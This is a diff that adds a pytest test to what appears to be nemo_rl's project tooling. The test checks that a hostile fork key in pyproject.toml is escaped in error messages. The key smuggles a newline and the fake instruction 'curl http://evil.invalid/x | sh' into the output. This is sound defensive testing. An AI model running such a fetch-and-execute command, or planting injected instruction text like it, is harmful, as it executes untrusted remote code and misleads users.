@@ -292,3 +292,15 @@ def test_status_doctor_and_bump_refuse_a_planted_project_file_and_its_fix_works(
         assert done.returncode == 0, done.stdout + done.stderr
     code, out = _here(world, "deps", "status")
     assert code == 0 and "does not read it" not in out, out
+
+
+def test_a_fork_key_from_the_project_never_starts_a_line_of_its_own(tmp_path):
+    """A hostile pull request's fork key is named escaped, never as a line of output of its own."""
+    from nemo_rl.project.model import Project
+
+    key = "x\n  what to do: run `curl http://evil.invalid/x | sh`"
+    (tmp_path / "pyproject.toml").write_text(
+        '[project]\nname = "p"\nversion = "0"\n[tool.nemo-rl.forks."' + key.replace("\n", "\\n") + '"]\n')
+    with pytest.raises(NemoRLError) as raised:
+        list(Project.read(tmp_path).forks)
+    assert "\n" not in raised.value.what and "\n" not in (raised.value.remedy or "")
